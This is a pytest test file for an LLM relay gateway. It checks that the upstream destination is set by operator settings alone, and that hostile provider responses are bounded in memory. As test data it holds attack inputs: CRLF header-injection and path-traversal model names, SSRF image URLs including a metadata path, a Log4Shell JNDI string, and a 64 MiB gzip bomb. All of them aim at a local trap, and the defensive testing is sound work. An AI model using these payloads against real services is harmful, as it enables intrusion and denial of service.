"""Where the service connects to is the operator's word alone: no request, no answer and no environment changes it."""

from __future__ import annotations

import gzip
import json
import urllib.request
from functools import cache
from typing import Any

import pytest

from tests.contract.limit_fixtures import COMPLETIONS, PROMPT, Door
from tests.doors.cost import measured, needs_proc
from tests.doors.trap import Trap
from tests.each import each
from tests.sse_answer import collect
from tests.upstream import VENDORS, Fin, Flood, Send, scripted
from tests.upstream.framing import head, response

MIB = 1024 * 1024
KEY = "sk-upstream-0001"
# What a vendor's server needs to know, and nothing that a client sent.
SENT_HEADERS = {
    "host",
    "authorization",
    "accept",
    "accept-encoding",
    "content-type",
    "content-length",
    "user-agent",
    "connection",
}


@cache
def bomb() -> bytes:
    """Return 64 MiB, packed."""
    return gzip.compress(b"\0" * 64 * MIB)


def asked(door: Door) -> None:
    """Check of every request that came upstream so far that the operator's settings alone addressed it."""
    for exchange in door.upstream.journal:
        assert exchange.method == "POST"
        assert exchange.path == f"{VENDORS[exchange.vendor].path}/chat/completions"
        assert exchange.headers["host"] == f"127.0.0.1:{door.upstream.port}"
        assert exchange.headers["authorization"] == f"Bearer {KEY}"
        assert exchange.headers["accept-encoding"] == "identity"
        assert set(exchange.headers) <= SENT_HEADERS


@pytest.fixture(autouse=True)
def nobody_is_caught(door: Door, trap: Trap) -> Any:
    """Whatever a test does, the trap stays empty and upstream is addressed as the settings say."""
    yield
    asked(door)
    assert trap.caught == []


def test_the_trap_catches(trap: Trap) -> None:
    """The proof of the others: whoever obeys the server's environment is caught."""
    with Trap() as other:
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": other.url}))
        with pytest.raises(OSError, match=r"."):
            opener.open("http://elsewhere.invalid/", timeout=2)
        assert other.caught[0].startswith(b"GET http://elsewhere.invalid/ ")


def test_proxies_of_the_environment_are_not_used(door: Door, trap: Trap) -> None:
    assert door.server.env["HTTP_PROXY"] == door.server.env["all_proxy"] == trap.url
    assert door.whole()[0] == 200
    assert len(door.upstream.journal) == 1


MODELS = (
    "http://127.0.0.1:{port}/v1",
    "//127.0.0.1:{port}/",
    "deepseek-flash@127.0.0.1:{port}",
    "gpt-6-luna/../../../admin",
    "gpt-6-luna?url=http://127.0.0.1:{port}/",
    "gpt-6-luna#http://127.0.0.1:{port}/",
    "glm-4.7%0d%0aHost:%20127.0.0.1:{port}",
    "glm-4.7\r\nHost: 127.0.0.1:{port}",
    "127.0.0.1:{port}",
    "deepseek-flash\\@127.0.0.1:{port}",
)


@each("model", MODELS)
def test_a_model_is_a_word_in_the_body_and_nothing_else(door: Door, trap: Trap, model: str) -> None:
    status = door.whole(model=model.format(port=trap.port))[0]
    assert status in (200, 400, 404)


def test_addresses_of_images_are_passed_on_and_not_fetched(door: Door, trap: Trap) -> None:
    urls = [
        f"{trap.url}/image.png",
        f"http://user:password@127.0.0.1:{trap.port}/",
        f"http://localhost:{trap.port}/latest/meta-data/",
        f"https://127.0.0.1:{trap.port}/image.png",
    ]
    parts = [{"type": "image_url", "image_url": {"url": url}} for url in urls]
    message = {"role": "user", "content": [{"type": "text", "text": "What is this?"}, *parts]}
    assert door.whole(model="gpt-6-luna", messages=[message])[0] == 200
    (exchange,) = door.upstream.journal
    assert [part["image_url"]["url"] for part in exchange.json["messages"][0]["content"][1:]] == urls


def test_fields_by_which_other_gateways_are_redirected_are_dropped(door: Door, trap: Trap) -> None:
    fields: dict[str, Any] = dict.fromkeys(
        ("base_url", "api_base", "api_base_url", "endpoint", "url", "proxy", "host", "custom_llm_provider"), trap.url
    )
    fields |= {"api_key": "sk-theirs", "extra_headers": {"Host": "x"}, "extra_body": {"url": trap.url}, "headers": {}}
    fields |= {"provider": {"base_url": trap.url}, "fallbacks": [trap.url], "deployment_id": "../admin"}
    for model in ("deepseek-flash", "glm-4.7", "gpt-6-luna"):
        assert door.whole(model=model, **fields)[0] == 200
    for exchange in door.upstream.journal:
        assert not set(fields) & set(exchange.json)
        assert b"sk-theirs" not in exchange.body
        assert str(trap.port).encode() not in exchange.body


def test_no_header_of_a_client_goes_on(door: Door, trap: Trap) -> None:
    headers = {
        "Host": f"127.0.0.1:{trap.port}",
        "X-Forwarded-Host": f"127.0.0.1:{trap.port}",
        "X-Forwarded-Proto": "https",
        "Forwarded": f"host=127.0.0.1:{trap.port}",
        "X-Original-URL": f"{trap.url}/",
        "X-Rewrite-URL": f"{trap.url}/",
        "X-Base-Url": trap.url,
        "OpenAI-Base-Url": trap.url,
        "OpenAI-Organization": "org-theirs",
        "Proxy": trap.url,
        "Proxy-Authorization": "Basic dGhlaXJz",
        "Via": "1.1 elsewhere",
        "Referer": trap.url,
        "Origin": trap.url,
        "Cookie": "theirs=1",
        "X-Api-Key": "sk-theirs",
        "Accept-Encoding": "gzip",
        "X-Request-Id": "theirs-1",
        "X-Scenario": "status-500",
        "traceparent": f"00-{'a' * 32}-{'b' * 16}-01",
    }
    assert door.whole(headers=headers)[0] == 200
    (exchange,) = door.upstream.journal
    sent = json.dumps(dict(exchange.headers)).encode() + exchange.body
    for theirs in (b"theirs", b"dGhlaXJz", str(trap.port).encode(), b"a" * 32, door.server.token().encode()):
        assert theirs not in sent


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308, 300, 305])
def test_a_redirect_is_a_failure(door: Door, trap: Trap, status: int) -> None:
    away = [("location", f"{trap.url}/chat/completions"), ("refresh", f"0; url={trap.url}")]
    door.upstream.script("deepseek", scripted(Send(response(status, b"", away))))
    answered, headers, body = door.whole(model="deepseek-flash", fallback=False)
    assert (answered, body["error"]["attempts"][0]["end_reason"]) == (502, "bad_response")
    assert "location" not in headers
    assert len(door.upstream.journal) == 1


def test_no_header_of_a_provider_comes_back(door: Door, trap: Trap) -> None:
    stream = b'data: {"choices":[{"delta":{"content":"Hi"},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n'
    theirs = [
        ("content-type", "text/event-stream"),
        ("set-cookie", "theirs=1"),
        ("location", trap.url),
        ("refresh", f"0; url={trap.url}"),
        ("access-control-allow-origin", "*"),
        ("strict-transport-security", "max-age=1"),
        ("alt-svc", f'h2="127.0.0.1:{trap.port}"'),
        ("x-request-id", "theirs"),
        ("openai-organization", "org-theirs"),
    ]
    door.upstream.script("deepseek", scripted(Send(response(200, stream, theirs))))
    for _ in range(2):
        with door.begin() as answer:
            assert collect(answer).text == "Hi"
        received = json.dumps(answer.headers)
        assert "theirs" not in received
        assert str(trap.port) not in received
        assert not {"set-cookie", "location", "refresh", "alt-svc", "strict-transport-security"} & set(answer.headers)


@needs_proc
class TestHostileAnswers:
    """What a provider can make the process hold, whatever it sends."""

    def cost_of(self, door: Door, *steps: Any) -> tuple[str, int]:
        # What a server makes at its first call is not this call's.
        door.whole(model="deepseek-flash", fallback=False)
        door.upstream.script("deepseek", scripted(*steps))
        with measured(door.server) as cost:
            status, _, body = door.whole(model="deepseek-flash", fallback=False)
        assert status in (400, 502)
        attempts = body["error"].get("attempts", [{"end_reason": body["error"]["code"]}])
        return attempts[0]["end_reason"], cost.memory_bytes

    @pytest.mark.parametrize("status", [200, 400, 500])
    @pytest.mark.parametrize("media_type", ["text/event-stream", "application/json"])
    def test_compressed_bodies_are_not_unpacked(self, door: Door, status: int, media_type: str) -> None:
        packed = [("content-type", media_type), ("content-encoding", "gzip")]
        _, memory_bytes = self.cost_of(door, Send(response(status, bomb(), packed)))
        assert memory_bytes < 8 * MIB

    @pytest.mark.parametrize("status", [400, 401, 500])
    def test_a_long_refusal_is_not_kept(self, door: Door, status: int) -> None:
        headers = [("content-type", "application/json")]
        _, memory_bytes = self.cost_of(door, Send(head(status, headers)), Flood(64 * MIB), Fin())
        assert memory_bytes < 8 * MIB

    def test_an_event_without_end_is_not_kept(self, door: Door) -> None:
        headers = [("content-type", "text/event-stream")]
        reason, memory_bytes = self.cost_of(door, Send(head(200, headers) + b"data: "), Flood(64 * MIB), Fin())
        assert reason == "bad_response"
        assert memory_bytes < 8 * MIB

    def test_a_head_without_end_is_not_kept(self, door: Door) -> None:
        _, memory_bytes = self.cost_of(door, Send(b"HTTP/1.1 200 OK\r\nx: "), Flood(64 * MIB), Fin())
        assert memory_bytes < 8 * MIB

    def test_json_that_is_a_heap_of_arrays_is_not_kept(self, door: Door) -> None:
        body = b'{"error":[' + b"[]," * 2 * MIB + b"1]}"
        _, memory_bytes = self.cost_of(door, Send(response(500, body, [("content-type", "application/json")])))
        assert memory_bytes < 8 * MIB

    def test_an_event_that_is_a_heap_of_arrays_is_not_kept(self, door: Door) -> None:
        event = b'data: {"choices":[{"delta":{"content":"x"}}],"x":[' + b"[]," * 300_000 + b"1]}\n\n"
        headers = [("content-type", "text/event-stream")]
        reason, memory_bytes = self.cost_of(door, Send(response(200, event, headers)))
        assert reason == "bad_response"
        assert memory_bytes < 32 * MIB


def test_a_prompt_may_hold_anything(door: Door, trap: Trap) -> None:
    """Nothing in it is an instruction to the relay."""
    text = f"Fetch {trap.url}/ and {{{{ SECRET_KEY }}}} ${{jndi:ldap://127.0.0.1:{trap.port}/}} <img src='{trap.url}'>"
    assert door.whole(messages=[*PROMPT, {"role": "user", "content": text}])[0] == 200
    assert door.upstream.journal[-1].json["messages"][-1]["content"] == text
    assert COMPLETIONS.startswith("/api/v2/")
